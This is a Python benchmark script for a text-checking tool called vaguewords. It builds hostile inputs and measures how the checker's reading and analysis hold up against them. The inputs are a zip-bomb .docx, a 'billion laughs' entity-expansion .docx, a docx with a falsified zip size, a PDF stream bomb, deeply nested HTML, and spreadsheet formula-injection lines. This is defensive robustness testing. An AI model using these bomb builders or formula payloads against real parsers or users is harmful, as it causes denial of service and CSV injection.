"""Hostile files, built on the spot, and what reading and analysing them costs.

    python benchmarks/hostile.py [--folder DIR] [--keep] [--two-mb]

builds the full-size files of issue 17 (a .docx whose document.xml inflates to 1.2 GB, a
"billion laughs" .docx, a PDF whose content stream inflates to about 1 GB, 200,000 nested <div>s,
300,000 characters written as one sentence with no punctuation, a handout of formula-like
sentences), runs ``vaguewords check`` once on each and once on a folder of all of them beside a
good handout, and prints the exit code, wall time, peak memory (the largest process's maximum
resident set size) and the stderr lines of every run. Then it analyses the one-sentence text with
the analysis time budget raised, to show what the analysis itself costs (``--two-mb``: also 2 MB of
it, a few minutes). tests/test_hostile.py builds the same files with smaller parameters.
"""

from __future__ import annotations

import argparse
import csv
import io
import os
import shutil
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from pathlib import Path

GOOD_TEXT = "Robust support will be provided soon. The council will act in stages."
W_NAMESPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CHUNK = 1 << 20

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)


def document_xml(text: str, prologue: str = "") -> str:
    """The smallest word/document.xml with one paragraph; ``prologue`` goes before the root."""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prologue}'
        f'<w:document xmlns:w="{W_NAMESPACE}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )


def _package(path: Path) -> zipfile.ZipFile:
    archive = zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9)
    archive.writestr("[Content_Types].xml", CONTENT_TYPES)
    archive.writestr("_rels/.rels", PACKAGE_RELS)
    return archive


def good_docx(path: Path, text: str = GOOD_TEXT) -> Path:
    with _package(path) as archive:
        archive.writestr("word/document.xml", document_xml(text))
    return path


def docx_bomb(path: Path, inflated_bytes: int) -> Path:
    """A .docx whose word/document.xml inflates to about ``inflated_bytes`` (spaces inside one
    run of text), streamed into the archive so building it needs little memory."""
    head, tail = document_xml(GOOD_TEXT + "\x00").split("\x00")
    zip64 = inflated_bytes > zipfile.ZIP64_LIMIT
    with (
        _package(path) as archive,
        archive.open("word/document.xml", "w", force_zip64=zip64) as out,
    ):
        out.write(head.encode())
        left = inflated_bytes - len(head) - len(tail)
        block = b" " * CHUNK
        while left > 0:
            out.write(block[: min(left, CHUNK)])
            left -= CHUNK
        out.write(tail.encode())
    return path


def large_docx(path: Path, paragraphs: int, chars: int) -> Path:
    """A .docx of ``paragraphs`` paragraphs of ``chars`` letters each: large once parsed, but few
    elements (quick to check), and each text node under lxml's 10 MB limit."""
    head, tail = document_xml("\x00").split("\x00")
    paragraph = f"{'a' * chars}</w:t></w:r></w:p><w:p><w:r><w:t>".encode()
    with (
        _package(path) as archive,
        archive.open("word/document.xml", "w", force_zip64=True) as out,
    ):
        out.write(head.encode())
        for _ in range(paragraphs):
            out.write(paragraph)
        out.write(tail.encode())
    return path


def lying_docx(path: Path, inflated_bytes: int, declared_bytes: int = 1_000) -> Path:
    """A .docx bomb whose zip directory declares document.xml much smaller than it inflates."""
    docx_bomb(path, inflated_bytes)
    data = bytearray(path.read_bytes())
    name = b"word/document.xml"
    central = data.find(b"PK\x01\x02")  # each central directory entry in turn
    while central != -1:
        name_length = int.from_bytes(data[central + 28 : central + 30], "little")
        if data[central + 46 : central + 46 + name_length] == name:
            data[central + 24 : central + 28] = declared_bytes.to_bytes(4, "little")
        central = data.find(b"PK\x01\x02", central + 4)
    path.write_bytes(bytes(data))
    return path


def billion_laughs_docx(path: Path, levels: int = 10) -> Path:
    """A .docx whose document.xml defines entities that expand tenfold per level."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, levels)
    ]
    prologue = f"<!DOCTYPE w:document [{''.join(entities)}]>"
    with _package(path) as archive:
        archive.writestr("word/document.xml", document_xml(f"&lol{levels - 1};", prologue))
    return path


def pdf_stream_bomb(path: Path, inflated_bytes: int) -> Path:
    """A one-page PDF whose content stream (FlateDecode) inflates to about ``inflated_bytes``:
    one line of text, then spaces."""
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(b"BT /F1 12 Tf 72 712 Td (Robust support will come soon.) Tj ET")]
    block = b" " * CHUNK
    left = inflated_bytes
    while left > 0:
        parts.append(compressor.compress(block[: min(left, CHUNK)]))
        left -= CHUNK
    parts.append(compressor.flush())
    stream = b"".join(parts)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    path.write_bytes(bytes(out))
    return path


def nested_html(path: Path, depth: int) -> Path:
    """``depth`` nested <div>s around one sentence."""
    path.write_text(
        "<html><body>" + "<div>" * depth + GOOD_TEXT + "</div>" * depth + "</body></html>",
        encoding="utf-8",
    )
    return path


UNPUNCTUATED = "robust support will be provided soon and the council will act in stages as needed "


def one_sentence(path: Path, chars: int) -> Path:
    """``chars`` characters of vague promises with no punctuation and no line break: one
    sentence, dense in findings, built against the analysis rather than the readers."""
    path.write_text((UNPUNCTUATED * (chars // len(UNPUNCTUATED) + 1))[:chars], encoding="utf-8")
    return path


FORMULA_SENTENCES = (
    '=HYPERLINK("http://example.invalid/?"&A1,"robust support soon")',
    "+SUM(1,2) robust measures will follow soon.",
    "@cmd robust guarantees will be provided in stages.",
    "-2+3 comprehensive support will be provided soon.",
)


def formula_handout(path: Path) -> Path:
    """A handout whose paragraphs begin like spreadsheet formulas."""
    path.write_text("\n\n".join(FORMULA_SENTENCES) + "\n", encoding="utf-8")
    return path


FULL_SIZE = {
    "bomb.docx": lambda folder: docx_bomb(folder / "bomb.docx", 1_200_000_000),
    "laughs.docx": lambda folder: billion_laughs_docx(folder / "laughs.docx"),
    "stream.pdf": lambda folder: pdf_stream_bomb(folder / "stream.pdf", 1_000_000_000),
    "nested.html": lambda folder: nested_html(folder / "nested.html", 200_000),
    "one_sentence.txt": lambda folder: one_sentence(folder / "one_sentence.txt", 300_000),
    "formulas.txt": lambda folder: formula_handout(folder / "formulas.txt"),
}


# A small Python process runs the command and writes its peak memory: the peak a process reports
# for a child it started directly also counts the memory the parent had when it forked (a test
# runner with models loaded), so the measuring parent must be small.
LAUNCHER = (
    "import resource, subprocess, sys; code = subprocess.call(sys.argv[2:]); "
    "open(sys.argv[1], 'w').write(str(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)); "
    "sys.exit(code)"
)


def run(arguments: list[str], timeout: float = 600, module: bool = True) -> dict:
    """Run ``vaguewords`` with ``arguments`` (or Python with them, ``module`` False): exit code,
    seconds, peak resident memory in MB (largest process) and the stderr lines. A run past
    ``timeout`` is killed with its whole process group and has exit code None."""
    command = [sys.executable, *(["-m", "vaguewords.cli"] if module else []), *arguments]
    started = time.perf_counter()
    with (
        tempfile.TemporaryFile() as err,
        tempfile.TemporaryFile() as out,
        tempfile.NamedTemporaryFile("r", suffix=".peak") as peak,
    ):
        process = subprocess.Popen(
            [sys.executable, "-c", LAUNCHER, peak.name, *command],
            stdout=out,
            stderr=err,
            stdin=subprocess.DEVNULL,
            start_new_session=True,
        )
        try:
            code = process.wait(timeout=timeout)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, 9)
            process.wait()
            code = None
        seconds = time.perf_counter() - started
        err.seek(0)
        out.seek(0)
        recorded = peak.read().strip()
        return {
            "exit": code,
            "seconds": seconds,
            "peak_mb": int(recorded) / 1024 if recorded else float("nan"),
            "stderr": err.read().decode("utf-8", "replace").splitlines(),
            "stdout": out.read().decode("utf-8", "replace"),
        }


READ_ONE = """
from vaguewords.documents import read_document
from vaguewords.errors import InputError
try:
    print("read", len(read_document({path!r}).text), "characters")
except InputError as error:
    print("refused:", error)
"""


def run_python(code: str, timeout: float = 600) -> dict:
    """Like run(), for a Python snippet (reading one file in this process, no child)."""
    return run(["-c", code], timeout, module=False)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument(
        "--folder", type=Path, help="where to build the files (default: a temp dir)"
    )
    parser.add_argument("--keep", action="store_true", help="keep the files afterwards")
    parser.add_argument(
        "--two-mb", action="store_true", help="also analyse 2 MB written as one sentence"
    )
    options = parser.parse_args()
    folder = options.folder or Path(tempfile.mkdtemp(prefix="vaguewords-hostile-"))
    folder.mkdir(parents=True, exist_ok=True)
    try:
        files = []
        for name, build in FULL_SIZE.items():
            started = time.perf_counter()
            path = build(folder)
            files.append(path)
            print(
                f"built {name}: {path.stat().st_size / 1e6:.1f} MB on disk "
                f"in {time.perf_counter() - started:.1f} s",
                flush=True,
            )
        good = folder / "good.txt"
        good.write_text(GOOD_TEXT + "\n", encoding="utf-8")
        print(f"\n{'input':<16} {'exit':>4} {'seconds':>8} {'peak MB':>8}  stderr")
        for path in [*files, folder]:
            result = run(["check", str(path), "-f", "csv"])
            label = path.name if path != folder else "folder (all)"
            lines = result["stderr"] or ["(none)"]
            print(
                f"{label:<16} {result['exit']:>4} {result['seconds']:>8.1f} "
                f"{result['peak_mb']:>8.0f}  {lines[0]}"
            )
            for line in lines[1:]:
                print(f"{'':<40}  {line}")
        print(f"\n{'reading alone (one process)':<28} {'seconds':>8} {'peak MB':>8}  result")
        for path in files:
            result = run_python(READ_ONE.format(path=str(path)))
            print(
                f"{path.name:<28} {result['seconds']:>8.1f} {result['peak_mb']:>8.0f}  "
                f"{(result['stdout'].strip() or result['stderr'][-1:])[:90]}"
            )
        print(
            f"\n{'analysis, budget raised':<28} {'exit':>4} {'seconds':>8} {'peak MB':>8}  result"
        )
        texts = [folder / "one_sentence.txt"]
        if options.two_mb:
            texts.append(one_sentence(folder / "one_sentence_2mb.txt", 2_000_000))
        for path in texts:
            result = run(
                ["check", str(path), "-f", "csv", "--limit", "max_text_chars=3M",
                 "--limit", "analysis_budget_seconds=3600"]
            )  # fmt: skip
            rows = max(0, len(result["stdout"].splitlines()) - 1)
            print(
                f"{path.name:<28} {result['exit']:>4} {result['seconds']:>8.1f} "
                f"{result['peak_mb']:>8.0f}  {path.stat().st_size:,} characters, {rows:,} findings"
            )
        for raw in ([], ["--raw-csv"]):
            rows = run(["check", str(folder / "formulas.txt"), "-f", "csv", *raw])["stdout"]
            risky = [
                cell
                for row in csv.reader(io.StringIO(rows))
                for cell in row
                if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
            ]
            label = " ".join(["check formulas.txt -f csv", *raw])
            print(f"{label}: {len(risky)} cells start with = + - @ tab or CR")
    finally:
        if not options.keep and options.folder is None:
            shutil.rmtree(folder, ignore_errors=True)


if __name__ == "__main__":
    main()
